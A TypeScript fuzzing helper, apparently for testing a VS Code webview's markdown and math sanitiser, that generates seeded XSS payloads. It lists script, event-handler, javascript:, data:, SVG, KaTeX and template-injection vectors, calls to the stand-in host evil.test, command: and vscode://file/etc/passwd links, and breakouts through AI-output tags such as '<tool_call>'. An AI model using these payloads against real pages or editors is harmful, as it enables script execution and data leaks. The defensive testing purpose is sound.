/** A generator of pseudo-random numbers in [0, 1) from a seed (mulberry32), so that a failure can be repeated. */
export function randomFrom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** What a payload tries to run; `executed` is the detector's own function. */
const SCRIPTS = [
  'executed(1)',
  'top.executed(2)',
  "window['exec'+'uted'](3)",
  'alert(4)',
  "fetch('https://evil.test/5')",
  "new Image().src='https://evil.test/6'",
  "location='https://evil.test/7'",
  "document.body.innerHTML=''",
  "acquireVsCodeApi().postMessage('8')",
];

/** Ways to get a script run, a request sent or the page changed; `%s` is the script. */
const VECTORS = [
  '<script>%s</script>',
  '<img src=x onerror="%s">',
  '<img src="https://evil.test/pixel.png">',
  '<svg onload="%s"></svg>',
  '<svg><script>%s</script></svg>',
  '<svg><animate onbegin="%s" attributeName=x dur=1s>',
  '<svg><use href="https://evil.test/a.svg#x"></svg>',
  '<math><mtext><style><img src=x onerror="%s"></style></mtext></math>',
  '<iframe srcdoc="<script>parent.%s</script>"></iframe>',
  '<iframe src="javascript:%s"></iframe>',
  '<object data="https://evil.test/o"></object>',
  '<embed src="https://evil.test/e">',
  '<a href="javascript:%s">Reveal in File</a>',
  '<a href="command:workbench.action.terminal.new?%5B%5D">open</a>',
  '<a href="vscode://file/etc/passwd">open</a>',
  '[open](command:workbench.action.quit)',
  '![x](https://evil.test/markdown.png)',
  '[open](javascript:%s)',
  '[open]: https://evil.test/hidden\n\n[open]',
  '<vscode://file/etc/passwd>',
  '**b** [x](data:text/html,<script>%s</script>)',
  '$\\href{javascript:%s}{x}\\url{command:x}$',
  '$$\\includegraphics{https://evil.test/katex.png}$$',
  '\\(\\htmlStyle{background:url(https://evil.test/k)}{x}\\htmlId{root}{y}\\class{message}{z}\\)',
  '$\\def\\a{\\a\\a}\\a \\rule{9999em}{9999em}$',
  '$\\text{<img src=x onerror="%s">}$',
  '<vscode-button onclick="%s">OK</vscode-button>',
  '<details open ontoggle="%s">x</details>',
  '<body onload="%s">',
  '<input autofocus onfocus="%s">',
  '<video><source onerror="%s"></video>',
  '<style>@import url(https://evil.test/i.css);*{background:url(https://evil.test/b)}</style>',
  '<link rel=stylesheet href="https://evil.test/l.css">',
  '<div style="background:url(https://evil.test/s);position:fixed;inset:0">x</div>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test/"><button autofocus>go</button></form>',
  '<template shadowrootmode=open><script>%s</script></template>',
  'javascript:%s',
  'data:text/html,<script>%s</script>',
  '{{constructor.constructor("%s")()}}',
  '${%s}',
  '<%= %s %>',
  '#{%s}',
  '{{{%s}}}',
  '*{x:expression(%s)}',
  '\u202egnp.<script>%s</script>\u2066',
  '\u0000<scr\u0000ipt>%s</script>',
  '<ſcript>%s</ſcript>',
  '\ud800<img src=x onerror="%s">',
];

/** Marks that a payload may break out of; `%v` is the vector. */
const CONTEXTS = [
  '%v',
  '">%v',
  "'>%v<'",
  '-->%v<!--',
  '</textarea></title></style></script>%v',
  ']]>%v',
  '</think><answer>%v</answer>',
  '<tool_call>%v</tool_call>',
  '"},"x":"%v',
  '\n\n%v\n\n',
  '\u202e%v\u202c',
  '\u0007\u001b[31m%v\u001b]8;;https://evil.test\u0007',
  '&lt;%v&gt;',
  '`%v`',
  '$$\\href{javascript:executed(0)}{%v}$$',
  '<![CDATA[%v',
];

function mutate(text: string, random: () => number): string {
  const way = Math.floor(random() * 6);
  if (way === 0) return text.toUpperCase().replace(/EXECUTED/g, 'executed');
  if (way === 1) return text.replace(/</g, '<\t');
  if (way === 2) return text.replace(/ /g, '/');
  if (way === 3) return text.replace(/[<>"]/g, (mark) => `&#${mark.charCodeAt(0)};`);
  return text;
}

/** So many payloads; the same seed gives the same ones. One in forty is padded to a huge string. */
export function hostilePayloads(count: number, seed: number): string[] {
  const random = randomFrom(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  return Array.from({ length: count }, (_, index) => {
    // Every vector gets its turn before chance decides.
    const vector = (VECTORS[index] ?? pick(VECTORS)).replaceAll('%s', () => pick(SCRIPTS));
    const text = pick(CONTEXTS).replaceAll('%v', () =>
      index < VECTORS.length ? vector : mutate(vector, random),
    );
    if (index % 40 !== 39) return text;
    const padding = pick(['A', '<b>', '\u0301', '\u202e', '((', '\n']).repeat(20_000);
    return random() < 0.5 ? padding + text : text + padding;
  });
}
